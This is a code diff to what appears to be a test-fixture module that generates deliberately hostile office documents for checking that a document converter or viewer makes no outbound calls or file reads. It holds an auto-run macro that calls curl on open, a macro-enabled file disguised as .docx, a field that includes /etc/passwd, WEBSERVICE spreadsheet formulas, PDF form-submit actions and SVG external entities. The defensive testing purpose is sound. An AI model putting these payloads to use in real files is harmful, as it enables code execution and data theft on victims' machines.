@@ -27,6 +27,10 @@ function field(instruction: string): string {
   return `<w:p><w:fldSimple w:instr='${instruction}'><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>`
 }
 
+/** Declares the package as a document with macros, although its name ends in .docx. */
+const macroTypes =
+  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
+
 function linkingDocx(urls: readonly string[]): Buffer {
   const pictures = [...urls, SECRET_FILE].map((url, index) => ({ id: `rId${index + 10}`, url }))
   const rows = [
@@ -46,6 +50,8 @@ function linkingDocx(urls: readonly string[]): Buffer {
   ])
   const body = `<w:body>${pictures.map(({ id }) => linkedPicture(id)).join("")}${fields.join("")}${field('INCLUDETEXT "/etc/passwd"')}<w:p><w:r><w:t>文档</w:t></w:r></w:p></w:body>`
   return makeDocx([], {
+    "[Content_Types].xml": macroTypes,
+    "word/vbaProject.bin": Buffer.from("d0cf11e0a1b11ae1", "hex"),
     "word/document.xml": `<w:document ${wordNamespaces}>${body}</w:document>`,
     "word/_rels/document.xml.rels": relationships(rows),
   })
@@ -68,6 +74,7 @@ function linkingXlsx(urls: readonly string[]): Buffer {
   return makeXlsx([["x"]], { "xl/worksheets/sheet1.xml": sheet })
 }
 
+/** Links of every kind, and a Basic program that runs when the document is opened. */
 function linkingOdt(urls: readonly string[]): Buffer {
   const section = (url: string): string =>
     `<text:section text:name="${url}"><text:section-source xlink:type="simple" xlink:href="${url}" text:filter-name="Text"/><text:p>x</text:p></text:section>`
@@ -76,16 +83,11 @@ function linkingOdt(urls: readonly string[]): Buffer {
   const object = (url: string): string =>
     `<text:p><draw:frame svg:width="5cm" svg:height="3cm"><draw:object-ole xlink:href="${url}"/><draw:plugin xlink:href="${url}"/></draw:frame></text:p>`
   const body = [...urls, SECRET_FILE].map((url) => section(url) + picture(url) + object(url)).join("")
-  return odt(`<office:body><office:text><text:p>文档</text:p>${body}</office:text></office:body>`)
-}
-
-/** A Basic program that runs when the document is opened. */
-function macroOdt(url: string): Buffer {
-  const program = `Sub Main\n Shell("curl ${url}")\n Open "/tmp/macro-was-here" For Output As #1\n Print #1, "x"\n Close #1\nEnd Sub`
+  const program = `Sub Main\n Shell("curl ${urls[0]}")\n Open "/tmp/macro-was-here" For Output As #1\n Print #1, "x"\n Close #1\nEnd Sub`
   const events =
     '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>'
   const library = 'xmlns:library="http://openoffice.org/2000/library"'
-  return odt(`${events}<office:body><office:text><text:p>文档</text:p></office:text></office:body>`, "", {
+  return odt(`${events}<office:body><office:text><text:p>文档</text:p>${body}</office:text></office:body>`, "", {
     "Basic/script-lc.xml": `<library:libraries ${library} xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
     "Basic/Standard/script-lb.xml": `<library:library ${library} library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`,
     "Basic/Standard/Module1.xml": `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">${program.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}</script:module>`,
@@ -112,8 +114,8 @@ export function linkFiles(urls: readonly string[]): HostileFile[] {
       `<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(${to})>>>><</Type/Annot/Subtype/Widget/FT/Tx/T(t)/Rect[0 0 9 9]/AA<</O<</S/SubmitForm/F(${to})>>/PO<</S/GoToR/F(${to})/D[0/Fit]>>>>>>`,
   )
   return [
-    hostile("links in .docx", "a.docx", "shown", () => linkingDocx(urls)),
-    hostile("links in .odt", "a.odt", "shown", () => linkingOdt(urls)),
+    hostile("links and a macro in .docx", "a.docx", "shown", () => linkingDocx(urls)),
+    hostile("links and a macro in .odt", "a.odt", "shown", () => linkingOdt(urls)),
     hostile("calls in .xlsx", "a.xlsx", "shown", () => linkingXlsx(urls)),
     hostile("calls in .csv", "a.csv", "shown", () =>
       Buffer.from(urls.map((to) => `"=WEBSERVICE(""${to}"")","='${SECRET_FILE}'#$x.A1"`).join("\n")),
@@ -165,12 +167,6 @@ export function linkFiles(urls: readonly string[]): HostileFile[] {
     hostile("outside entities in .svg", "a.svg", "unsupported", () =>
       Buffer.from(`${entity(url)}<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/><text>${ENTITIES}</text></svg>`),
     ),
-    hostile("a macro in .odt", "a.odt", "shown", () => macroOdt(url)),
-    hostile("a macro document named .docx", "a.docx", "shown", () => {
-      const types =
-        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
-      return makeDocx(["文档"], { "[Content_Types].xml": types, "word/vbaProject.bin": Buffer.from("d0cf11e0a1b11ae1", "hex") })
-    }),
     hostile("a .docm", "a.docm", "unsupported", () => makeDocx(["x"], { "word/vbaProject.bin": Buffer.from("d0cf11e0a1b11ae1", "hex") })),
     hostile("a .xlsm", "a.xlsm", "unsupported", () => makeXlsx([["x"]], { "xl/vbaProject.bin": Buffer.from("d0cf11e0a1b11ae1", "hex") })),
   ]
